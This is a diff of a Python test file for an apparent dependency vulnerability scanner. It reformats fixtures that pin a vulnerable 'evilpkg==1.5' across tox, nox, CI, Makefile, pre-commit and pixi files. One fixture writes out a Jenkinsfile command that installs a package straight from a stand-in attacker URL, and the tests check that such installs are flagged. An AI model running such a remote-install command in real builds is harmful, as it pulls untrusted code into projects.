@@ -472,62 +472,143 @@ _NOX = "import nox\n\n@nox.session\ndef tests(session):\n    session.install({ar
     ("files", "source", "line"),
     [
         # tox: deps, includes, substitutions, factors, commands, TOML forms
-        ({"tox.ini": "[tox]\nenvlist = py\n[testenv]\ndeps =\n    pytest\n    evilpkg==1.5\n"},
-         "tox.ini", 6),
-        ({"tox.ini": "[testenv]\ndeps =\n    -r ci/test.lst\n", "ci/test.lst": "evilpkg==1.5\n"},
-         "ci/test.lst", 1),
-        ({"tox.ini": "[base]\ndeps = evilpkg==1.5\n[testenv:lint]\ndeps = {[base]deps}\n"},
-         "tox.ini", 2),
+        (
+            {"tox.ini": "[tox]\nenvlist = py\n[testenv]\ndeps =\n    pytest\n    evilpkg==1.5\n"},
+            "tox.ini",
+            6,
+        ),
+        (
+            {"tox.ini": "[testenv]\ndeps =\n    -r ci/test.lst\n", "ci/test.lst": "evilpkg==1.5\n"},
+            "ci/test.lst",
+            1,
+        ),
+        (
+            {"tox.ini": "[base]\ndeps = evilpkg==1.5\n[testenv:lint]\ndeps = {[base]deps}\n"},
+            "tox.ini",
+            2,
+        ),
         ({"tox.ini": "[testenv]\ndeps =\n    py312: evilpkg==1.5\n"}, "tox.ini", 3),
-        ({"tox.ini": "[testenv]\ncommands =\n    pip install evilpkg==1.5\n    pytest\n"},
-         "tox.ini", 3),
-        ({"pyproject.toml": '[tool.tox]\nlegacy_tox_ini = """\n[testenv]\ndeps = evilpkg==1.5\n"""\n'},
-         "pyproject.toml", 4),
+        (
+            {"tox.ini": "[testenv]\ncommands =\n    pip install evilpkg==1.5\n    pytest\n"},
+            "tox.ini",
+            3,
+        ),
+        (
+            {
+                "pyproject.toml": '[tool.tox]\nlegacy_tox_ini = """\n[testenv]\n'
+                'deps = evilpkg==1.5\n"""\n'
+            },
+            "pyproject.toml",
+            4,
+        ),
         ({"tox.toml": '[env_run_base]\ndeps = ["evilpkg==1.5"]\n'}, "tox.toml", 2),
         ({"tox.toml": '[env.t]\ncommands = [["pip", "install", "evilpkg==1.5"]]\n'}, "tox.toml", 2),
         # nox: constant arguments of session.install, read from the syntax tree
         ({"noxfile.py": _NOX.format(args='"pytest", "evilpkg==1.5"')}, "noxfile.py", 5),
-        ({"noxfile.py": _NOX.format(args='"-r", "ci/nox.lst"'), "ci/nox.lst": "evilpkg==1.5\n"},
-         "ci/nox.lst", 1),
+        (
+            {"noxfile.py": _NOX.format(args='"-r", "ci/nox.lst"'), "ci/nox.lst": "evilpkg==1.5\n"},
+            "ci/nox.lst",
+            1,
+        ),
         ({"noxfile.py": 'DEPS = ["evilpkg==1.5"]\n' + _NOX.format(args="*DEPS")}, "noxfile.py", 6),
         # install commands in CI files, scripts, Makefiles
-        ({".github/workflows/ci.yml": "on: push\njobs:\n  t:\n    steps:\n      - run: |\n"
-          "          python -m pip install -U pip\n          pip install evilpkg==1.5\n"},
-         ".github/workflows/ci.yml", 7),
-        ({".gitlab-ci.yml": "test:\n  script:\n    - python -m pip install 'evilpkg==1.5'\n"},
-         ".gitlab-ci.yml", 3),
-        ({"azure-pipelines.yml": "steps:\n- script: uv pip install evilpkg==1.5\n"},
-         "azure-pipelines.yml", 2),
-        ({".circleci/config.yml": "jobs:\n  b:\n    steps:\n      - run: pip3 install evilpkg==1.5\n"},
-         ".circleci/config.yml", 4),
-        ({"Jenkinsfile": "pipeline {\n  stages {\n    sh 'pip install evilpkg==1.5'\n  }\n}\n"},
-         "Jenkinsfile", 3),
-        ({"scripts/setup.sh": "#!/bin/sh\nset -e\npip install \\\n  evilpkg==1.5\n"},
-         "scripts/setup.sh", 3),
+        (
+            {
+                ".github/workflows/ci.yml": "on: push\njobs:\n  t:\n    steps:\n      - run: |\n"
+                "          python -m pip install -U pip\n          pip install evilpkg==1.5\n"
+            },
+            ".github/workflows/ci.yml",
+            7,
+        ),
+        (
+            {".gitlab-ci.yml": "test:\n  script:\n    - python -m pip install 'evilpkg==1.5'\n"},
+            ".gitlab-ci.yml",
+            3,
+        ),
+        (
+            {"azure-pipelines.yml": "steps:\n- script: uv pip install evilpkg==1.5\n"},
+            "azure-pipelines.yml",
+            2,
+        ),
+        (
+            {
+                ".circleci/config.yml": "jobs:\n  b:\n    steps:\n"
+                "      - run: pip3 install evilpkg==1.5\n"
+            },
+            ".circleci/config.yml",
+            4,
+        ),
+        (
+            {"Jenkinsfile": "pipeline {\n  stages {\n    sh 'pip install evilpkg==1.5'\n  }\n}\n"},
+            "Jenkinsfile",
+            3,
+        ),
+        (
+            {"scripts/setup.sh": "#!/bin/sh\nset -e\npip install \\\n  evilpkg==1.5\n"},
+            "scripts/setup.sh",
+            3,
+        ),
         ({"bin/bootstrap": "#!/usr/bin/env bash\nuv add evilpkg==1.5\n"}, "bin/bootstrap", 2),
         ({"install.sh": "pipx install evilpkg==1.5\n"}, "install.sh", 1),
-        ({"Makefile": "PIP = python -m pip\nLOCK := ci/lock.lst\ndev:\n\t$(PIP) install -c $(LOCK) x\n",
-          "ci/lock.lst": "evilpkg==1.5\n"}, "ci/lock.lst", 1),
+        (
+            {
+                "Makefile": "PIP = python -m pip\nLOCK := ci/lock.lst\n"
+                "dev:\n\t$(PIP) install -c $(LOCK) x\n",
+                "ci/lock.lst": "evilpkg==1.5\n",
+            },
+            "ci/lock.lst",
+            1,
+        ),
         ({"Makefile": "dev:\n\t@python -m pip install evilpkg==1.5\n"}, "Makefile", 2),
         # pre-commit hooks' additional dependencies
-        ({".pre-commit-config.yaml": "repos:\n  - repo: local\n    hooks:\n      - id: x\n"
-          "        language: python\n        additional_dependencies: [evilpkg==1.5]\n"},
-         ".pre-commit-config.yaml", 6),
+        (
+            {
+                ".pre-commit-config.yaml": "repos:\n  - repo: local\n    hooks:\n      - id: x\n"
+                "        language: python\n        additional_dependencies: [evilpkg==1.5]\n"
+            },
+            ".pre-commit-config.yaml",
+            6,
+        ),
         # requirements files by wider names, and included from anything read
         ({"myrequirements.txt": "evilpkg==1.5\n"}, "myrequirements.txt", 1),
         ({"constraints2.txt": "evilpkg==1.5\n"}, "constraints2.txt", 1),
-        ({"environment.yml": "dependencies:\n  - pip:\n    - -r conda.lst\n", "conda.lst": "evilpkg==1.5\n"},
-         "conda.lst", 1),
+        (
+            {
+                "environment.yml": "dependencies:\n  - pip:\n    - -r conda.lst\n",
+                "conda.lst": "evilpkg==1.5\n",
+            },
+            "conda.lst",
+            1,
+        ),
         # PEP 723 inline script metadata
-        ({"tools/report.py": "# /// script\n# requires-python = '>=3.11'\n# dependencies = [\n"
-          "#   'evilpkg==1.5',\n# ]\n# ///\nprint(1)\n"}, "tools/report.py", 4),
+        (
+            {
+                "tools/report.py": "# /// script\n# requires-python = '>=3.11'\n"
+                "# dependencies = [\n"
+                "#   'evilpkg==1.5',\n# ]\n# ///\nprint(1)\n"
+            },
+            "tools/report.py",
+            4,
+        ),
         # pixi
-        ({"pixi.toml": '[project]\nname = "x"\n[pypi-dependencies]\nevilpkg = "==1.5"\n'},
-         "pixi.toml", 4),
-        ({"pixi.toml": '[feature.test.pypi-dependencies]\nevilpkg = { version = "==1.5" }\n'},
-         "pixi.toml", 2),
-        ({"pyproject.toml": '[project]\nname = "x"\n[tool.pixi.pypi-dependencies]\nevilpkg = "==1.5"\n'},
-         "pyproject.toml", 4),
+        (
+            {"pixi.toml": '[project]\nname = "x"\n[pypi-dependencies]\nevilpkg = "==1.5"\n'},
+            "pixi.toml",
+            4,
+        ),
+        (
+            {"pixi.toml": '[feature.test.pypi-dependencies]\nevilpkg = { version = "==1.5" }\n'},
+            "pixi.toml",
+            2,
+        ),
+        (
+            {
+                "pyproject.toml": '[project]\nname = "x"\n[tool.pixi.pypi-dependencies]\n'
+                'evilpkg = "==1.5"\n'
+            },
+            "pyproject.toml",
+            4,
+        ),
     ],
 )
 def test_attack_vulnerable_pin_declared_outside_the_manifests(
@@ -549,9 +630,17 @@ def test_attack_vulnerable_pin_declared_outside_the_manifests(
         ({"noxfile.py": _NOX.format(args='f"evilpkg=={V}"')}, "noxfile.py"),
         ({"scripts/i.sh": 'pip install "$PKG"\n'}, "scripts/i.sh"),
         ({"Makefile": "i:\n\tpip install -r $(shell ls *.lst)\n"}, "Makefile"),
-        ({".github/workflows/x.yml": "jobs:\n  a:\n    steps:\n"
-          "      - run: pip install ${{ matrix.pkg }}\n"}, ".github/workflows/x.yml"),
-        ({"Jenkinsfile": 'sh "pip install https://evil.example/evilpkg-1.5.tar.gz"\n'}, "Jenkinsfile"),
+        (
+            {
+                ".github/workflows/x.yml": "jobs:\n  a:\n    steps:\n"
+                "      - run: pip install ${{ matrix.pkg }}\n"
+            },
+            ".github/workflows/x.yml",
+        ),
+        (
+            {"Jenkinsfile": 'sh "pip install https://evil.example/evilpkg-1.5.tar.gz"\n'},
+            "Jenkinsfile",
+        ),
     ],
 )
 def test_attack_install_that_cannot_be_read_fails_closed(
@@ -620,10 +709,13 @@ def test_pre_commit_hooks_of_other_languages_are_not_python(tmp_path: Path, db: 
         tmp_path,
         {
             ".pre-commit-config.yaml": "repos:\n  - repo: https://x/mirrors-prettier\n"
-            "    hooks:\n      - id: prettier\n        additional_dependencies: ['prettier@3.0.0']\n"
-            "      - id: y\n        language: node\n        additional_dependencies: [evilpkg==1.5]\n",
+            "    hooks:\n      - id: prettier\n"
+            "        additional_dependencies: ['prettier@3.0.0']\n"
+            "      - id: y\n        language: node\n"
+            "        additional_dependencies: [evilpkg==1.5]\n",
         },
     )
     bundle, controls = _check(root, db)
     assert bundle.document["deps"]["vulnerabilities"] == []
     assert bundle.document["deps"]["errors"] == []
+    assert controls[VULN].status is ControlStatus.PASS
